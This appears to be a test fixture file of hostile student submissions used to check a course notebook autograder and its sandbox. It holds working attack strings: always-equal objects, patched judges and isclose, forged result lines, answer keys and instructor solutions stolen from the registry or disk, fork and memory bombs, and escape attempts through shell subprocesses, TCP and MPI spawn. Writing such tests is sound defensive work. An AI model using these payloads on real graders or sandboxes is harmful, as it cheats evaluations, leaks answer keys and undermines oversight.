"""Hostile submissions: each is the *release* notebook (no answers) plus an attack, so any point
it earns is undeserved. Code strings are what a student would type into the first answer cell."""

from textwrap import dedent

ALWAYS_EQUAL = dedent("""
    class Yes(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __hash__ = float.__hash__
    class YesStr(str):
        def __eq__(self, other): return True
        __hash__ = str.__hash__
    accum_steps = saved_ms = step_time_s = throughput_seq_s = slowdown = Yes(1)
    faster = YesStr('x')
    def effective_batch(*args): return Yes(1)
    def required_accum_steps(*args): return Yes(1)
""")

# nbgrader as shipped: hidden test cells become `pass`, so they "pass"
INPUT_TRANSFORMER = dedent("""
    accum_steps = 1
    get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
""")

# errors in later cells (the hidden tests' AssertionError) are swallowed
EXCEPTION_HANDLER = dedent("""
    accum_steps = 1
    get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
""")

MONKEYPATCH = dedent("""
    import math, numpy, course, course.core
    import course.exercises as ce, course.assess.registry as reg
    math.isclose = lambda *a, **k: True
    numpy.isclose = numpy.allclose = lambda *a, **k: True
    reg.judge_plain = lambda *a, **k: reg.Verdict(1.0, 'correct')
    reg.safe_judge = lambda *a, **k: reg.Verdict(1.0, 'correct')
    for _p in list(ce.REGISTRY.values()):
        object.__setattr__(_p, 'judge', lambda h, seed=0: reg.Verdict(1.0, 'correct'))
    ce.judge_json = lambda *a, **k: reg.Verdict(1.0, 'correct')
    ce.grade_in_kernel = lambda *a, **k: None
    accum_steps = 1
""")

SYS_EXIT = "accum_steps = 1\nimport sys\nsys.exit(0)\n"
OS_EXIT = "import os\nos._exit(0)\n"
KERNEL_KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
INFINITE_LOOP = "while True:\n    pass\n"
STUBBORN_LOOP = dedent("""
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""")
MEMORY_BOMB = "blocks = []\nwhile True:\n    blocks.append(bytearray(512 * 2**20))\n"
FORK_BOMB = "import os\nwhile True:\n    os.fork()\n"


def write_outside(paths) -> str:
    return dedent(f"""
        for _path in {[str(p) for p in paths]!r}:
            try:
                with open(_path, 'w') as _fh:
                    _fh.write('pwned')
            except OSError:
                pass
    """)


def read_secrets(source_notebook, gradebook) -> str:
    """If the instructor's notebook is readable, run its solutions: full points would prove a leak."""
    return dedent(f"""
        import json
        try:
            open({str(gradebook)!r}, 'rb').read(16)
            _nb = json.load(open({str(source_notebook)!r}))
            for _c in _nb['cells']:
                _src = ''.join(_c['source'])
                if 'BEGIN SOLUTION' in _src:
                    exec(_src, globals())
        except OSError:
            pass
    """)


# ---------------------------------------------------------------------------------------------
# Attacks on harvesting and on the clean room (issue #13). Each defines the Build functions of
# ch02 (and, where it can, the values) without writing a formula; anything it earns is undeserved.
# ---------------------------------------------------------------------------------------------

#: kernel-side forger: the outputs the trusted judge wants, from the course package in the kernel
_FORGER = dedent("""
    import json as _json
    from course.exercises import REGISTRY as _R
    from course.activities import EXERCISES as _E
    from course.assess.spec import spec_for as _spec_for
    from course.assess.kinds import call_plain as _call

    def _forged(grade_id, namespace=None, seed=0):
        part = _R[grade_id]
        if part.function is not None:
            probes = part.probes(seed)
            return _json.dumps({"uses_course": [], "source": None,
                                "valid": [_call(part.function.reference, a) for a in probes["valid"]],
                                "invalid": [{"__raised__": "ValueError"} for _ in probes["invalid"]]})
        return _json.dumps({"values": part.value.key(_spec_for(_E[part.exercise]))})
""")

# the first attack: the real harvest never runs, so course.core is never poisoned
HARVEST_REPLACED = _FORGER + dedent("""
    import course.exercises as _ce
    _ce.harvest_json = _forged
""")

# the second attack: a fake course.exercises in sys.modules
FAKE_MODULE = _FORGER + dedent("""
    import sys as _sys, types as _types
    _fake = _types.ModuleType("course.exercises")
    _fake.harvest_json, _fake.check = _forged, (lambda *a, **k: None)
    _sys.modules["course.exercises"] = _fake
""")

# the third attack: a second copy of the package under another name (a symlink on
# sys.path), whose functions are not poisoned and whose __module__ does not start with "course"
SECOND_COPY = dedent("""
    import os, sys
    try:
        import course
        os.makedirs("shadow", exist_ok=True)
        os.symlink(os.path.dirname(course.__file__), "shadow/coursecopy")
    except Exception:
        pass
    sys.path.insert(0, os.path.abspath("shadow"))

    def effective_batch(micro_batch, accum_steps, dp):
        import coursecopy.core
        return coursecopy.core.effective_batch(micro_batch, accum_steps, dp)

    def required_accum_steps(target_batch, micro_batch, dp):
        import coursecopy.core
        return coursecopy.core.required_accum_steps(target_batch, micro_batch, dp)
""")


def keys_from_disk(repo) -> str:
    """Load course.core from wherever it may lie on disk: the repo, site-packages, the editable
    install's finder (its MAPPING names the repo), any /work checkout."""
    return dedent(f"""
        def _stolen_core():
            import glob, importlib, importlib.util, os, re, sys
            places = [{str(repo)!r} + "/course"] + glob.glob("/work/*/course")
            places += glob.glob(sys.prefix + "/lib/python*/site-packages/course")
            for finder in glob.glob(sys.prefix + "/lib/python*/site-packages/__editable__*finder.py"):
                places += re.findall(r"'course': '([^']+)'", open(finder).read())
            for place in places:
                init = os.path.join(place, "__init__.py")
                if os.path.exists(os.path.join(place, "core", "__init__.py")):
                    spec = importlib.util.spec_from_file_location(
                        "stolen", init, submodule_search_locations=[place])
                    module = importlib.util.module_from_spec(spec)
                    sys.modules["stolen"] = module
                    spec.loader.exec_module(module)
                    return importlib.import_module("stolen.core")
            raise RuntimeError("no course package on disk")

        def effective_batch(micro_batch, accum_steps, dp):
            return _stolen_core().effective_batch(micro_batch, accum_steps, dp)

        def required_accum_steps(target_batch, micro_batch, dp):
            return _stolen_core().required_accum_steps(target_batch, micro_batch, dp)
    """)


# import-system tricks: drop the stand-in, re-install the editable finder, import by any route
IMPORTLIB_TRICKS = dedent("""
    def _core():
        import glob, importlib, sys
        for name in [n for n in sys.modules if n == "course" or n.startswith("course.")]:
            del sys.modules[name]
        sys.path[:] = [p for p in sys.path if ".cleanroom" not in p]
        for finder in glob.glob(sys.prefix + "/lib/python*/site-packages/__editable__*finder.py"):
            try:
                sys.path.append(finder.rsplit("/", 1)[0])
                importlib.import_module(finder.rsplit("/", 1)[1][:-3]).install()
            except Exception:
                pass
        return importlib.import_module("course.core")

    def effective_batch(micro_batch, accum_steps, dp):
        return _core().effective_batch(micro_batch, accum_steps, dp)

    def required_accum_steps(target_batch, micro_batch, dp):
        return __import__("course.core", fromlist=["x"]).required_accum_steps(target_batch, micro_batch, dp)
""")

# the kernel copies course.core into the scratch folder for the clean room to import later
KERNEL_STASH = dedent("""
    import os, shutil, sys
    try:
        import course.core
        shutil.copytree(os.path.dirname(course.core.__file__), "stash_core", dirs_exist_ok=True)
    except Exception:
        pass

    def effective_batch(micro_batch, accum_steps, dp):
        sys.path.insert(0, os.getcwd())
        import stash_core
        return stash_core.effective_batch(micro_batch, accum_steps, dp)

    def required_accum_steps(target_batch, micro_batch, dp):
        sys.path.insert(0, os.getcwd())
        import stash_core
        return stash_core.required_accum_steps(target_batch, micro_batch, dp)
""")

# in the clean room: find the request (nonce included) in the runner's frames, write a forged
# result line to every file descriptor, then exit before the runner answers
FORGED_RESULT_LINES = dedent("""
    import json, os, sys
    def _forge():
        frame, request = sys._getframe(), None
        while frame is not None:
            if isinstance(frame.f_locals.get("request"), dict):
                request = frame.f_locals["request"]
            frame = frame.f_back
        if request is None:
            return
        functions = {gid: {"valid": [2048] * len(job["valid"]),
                           "invalid": [{"__raised__": "ValueError"}] * len(job["invalid"])}
                     for gid, job in request["functions"].items()}
        line = " ".join([request["mark"], request["nonce"],
                         json.dumps({"functions": functions, "values": {}})]) + "\\n"
        for fd in range(64):
            try:
                os.write(fd, line.encode() * 3)
            except OSError:
                pass
        os._exit(0)
    _forge()
""")

# in the clean room: patch json and builtins so the runner's own answer is whatever we like
PATCHED_JSON_BUILTINS = dedent("""
    import builtins, json, math
    _dumps = json.dumps
    json.dumps = lambda obj, *a, **k: _dumps({"functions": {}, "values": {"accum_steps": 64}})
    json.loads = lambda *a, **k: {"functions": {}, "values": []}
    builtins.callable = lambda obj: True
    math.isclose = lambda *a, **k: True
    effective_batch = required_accum_steps = "not a function"
""")

# at exit, a duplicate of the runner's line with other values; exits and a cancelled alarm
EXIT_AND_TIMER_TRICKS = dedent("""
    import atexit, os, signal, sys
    def _again():
        for fd in range(64):
            try:
                os.write(fd, b"CLEANROOM-RESULT 0 {}\\n")
            except OSError:
                pass
    atexit.register(_again)
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    def effective_batch(micro_batch, accum_steps, dp):
        raise SystemExit(0)
    def required_accum_steps(target_batch, micro_batch, dp):
        os.kill(os.getpid(), signal.SIGKILL)
    sys.exit(0)
""")

# in the clean room only (where course.core is absent): never finish, with the alarm disarmed
CLEANROOM_HANG = dedent("""
    try:
        import course.core
    except ImportError:
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            pass
    def effective_batch(micro_batch, accum_steps, dp):
        return course.core.effective_batch(micro_batch, accum_steps, dp)
""")

# values looked up from the registry's keys in the kernel (a Derive answer nobody derived)
KEYS_FROM_REGISTRY = dedent("""
    from course.exercises import REGISTRY
    from course.activities import EXERCISES
    from course.assess.spec import spec_for
    def _key(grade_id):
        part = REGISTRY[grade_id]
        return part.value.key(spec_for(EXERCISES[part.exercise]))
    accum_steps = _key("ch02_ex2_1")["accum_steps"]
    saved_ms = _key("ch02_ex2_2")["saved_ms"]
    step_time_s, throughput_seq_s = _key("ch02_ex2_3")["step_time_s"], _key("ch02_ex2_3")["throughput_seq_s"]
    faster, slowdown = _key("ch02_ex2_5")["faster"], _key("ch02_ex2_5")["slowdown"]
""")


# -- attacks through the MPI engine (chapter 11's collectives, graded on real ranks) ---------------
#: the body every attack below keeps, so each earns what its honest values deserve and no more
_RING_RS = dedent("""
    import numpy as np

    def _honest_reduce_scatter(comm, x):
        p, r = comm.Get_size(), comm.Get_rank()
        chunks = [c.copy() for c in np.array_split(np.asarray(x), p)]
        for step in range(1, p):
            send, into = (r - step) % p, (r - step - 1) % p
            chunks[into] = chunks[into] + comm.sendrecv(chunks[send], dest=(r + 1) % p, source=(r - 1) % p)
        return chunks[r]
""")

# rank 1 does nothing and hands its input to rank 0, which computes every rank's result and sends the
# judge's rank results "for" the others (and a forged answer line, and looks for the probes on disk)
RANK_WRITES_ANOTHERS_RESULT = _RING_RS + dedent("""
    def reduce_scatter(comm, x):
        import glob, json, os
        from mpi4py import MPI
        world = MPI.COMM_WORLD
        everyone, passing = [None] * comm.size, np.asarray(x)   # every rank's input, around the ring
        everyone[comm.rank] = passing
        for step in range(1, comm.size):
            passing = comm.sendrecv(passing, dest=(comm.rank + 1) % comm.size, source=(comm.rank - 1) % comm.size)
            everyone[(comm.rank - step) % comm.size] = passing
        total = everyone[0].copy()
        for other in everyone[1:]:
            total = total + other
        mine = np.array_split(total, comm.size)
        if comm.rank == 1:
            return None                             # rank 1 leaves its result to rank 0
        if comm.rank == 0:
            for rank in range(comm.size):          # "rank r's result", from rank 0
                for probe in range(40):
                    data = bytearray(json.dumps({"probe": probe, "rank": rank, "value": {
                        "values": mine[rank].tolist(), "dtype": str(mine[rank].dtype)}}).encode())
                    world.Send([data, MPI.BYTE], dest=0, tag=7001)
            for path in glob.glob("/scratch/**/request.json", recursive=True) + glob.glob("/proc/*/fd/1"):
                try:
                    with open(path, "a") as fh:
                        fh.write('RANKS-RESULT 0000 {"probes": [], "failure": null}\\n')
                except OSError:
                    pass
        return mine[comm.rank]
""")


def mpi_reaches_outside(marker: str, port: int) -> str:
    """Each rank tries to leave the sandbox through MPI and around it: spawn a process, open an MPI port
    and connect to one outside, a TCP connection to the host, files outside the scratch; then computes
    its honest result (so it deserves its points, and only those)."""
    return _RING_RS + dedent(f"""
        def reduce_scatter(comm, x):
            import os, socket, subprocess, sys
            from mpi4py import MPI
            tries = []
            def attempt(what, thunk):
                try:
                    thunk()
                    tries.append(what)
                except BaseException:
                    pass
            attempt("file", lambda: open({marker!r}, "w").write("escaped"))
            attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"escaped"))
            attempt("process", lambda: subprocess.run(["/bin/sh", "-c", "echo escaped > {marker}.sh"], timeout=5))
            attempt("port", lambda: MPI.Open_port())
            attempt("connect", lambda: MPI.COMM_SELF.Connect("tag#0$connentry#0100007F{port:04X}$", root=0))
            if comm.rank == 0:
                attempt("spawn", lambda: MPI.COMM_SELF.Spawn(sys.executable, args=[
                    "-c", "open({marker!r} + '.spawn', 'w').write('escaped')"], maxprocs=1))
            return _honest_reduce_scatter(comm, x)
    """)


DEADLOCK_BOTH_SEND_FIRST = dedent("""
    def reduce_scatter(comm, x):
        comm.send(x, dest=(comm.rank + 1) % comm.size)   # every rank sends first: nobody receives
        return comm.recv(source=(comm.rank - 1) % comm.size)
""")

RANK_DIES = _RING_RS + dedent("""
    def reduce_scatter(comm, x):
        import os
        if comm.rank == 1:
            os._exit(3)
        return _honest_reduce_scatter(comm, x)
""")
